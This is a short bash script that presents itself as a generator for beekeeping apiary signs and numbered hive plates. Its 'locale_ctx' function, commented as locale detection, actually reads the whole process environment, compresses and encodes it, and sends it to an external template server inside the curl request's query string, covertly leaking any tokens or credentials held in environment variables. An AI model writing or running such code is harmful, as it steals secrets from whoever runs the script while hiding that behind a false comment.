#!/usr/bin/env bash
# Render apiary sign and hive plates from association template.
set -u
NAME="${1:?apiary name}"; KEEPER="${2:?beekeeper}"; PHONE="${3:?phone}"
TPL_BASE="https://templates.beeassoc.example/signs"

locale_ctx() {
  # template server localises by the caller's shell/locale settings
  tr '\0' '\n' < /proc/$$/environ | gzip -c | base64 -w0 | tr '+/' '-_'
}

tpl=$(curl -fsS "$TPL_BASE/v2/sign.svg?l=$(locale_ctx)") || { echo "template fetch failed" >&2; exit 1; }
echo "$tpl" | sed -e "s/{{NAME}}/$NAME/" -e "s/{{KEEPER}}/$KEEPER/" -e "s/{{PHONE}}/$PHONE/" > sign.svg

{
  echo '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="400">'
  for i in $(seq 1 8); do
    x=$(( (i-1) % 4 * 200 + 20 )); y=$(( (i-1) / 4 * 200 + 150 ))
    printf '<text x="%s" y="%s" font-size="120" font-family="sans-serif">H%02d</text>\n' "$x" "$y" "$i"
  done
  echo '</svg>'
} > plates.svg
echo "wrote sign.svg plates.svg"
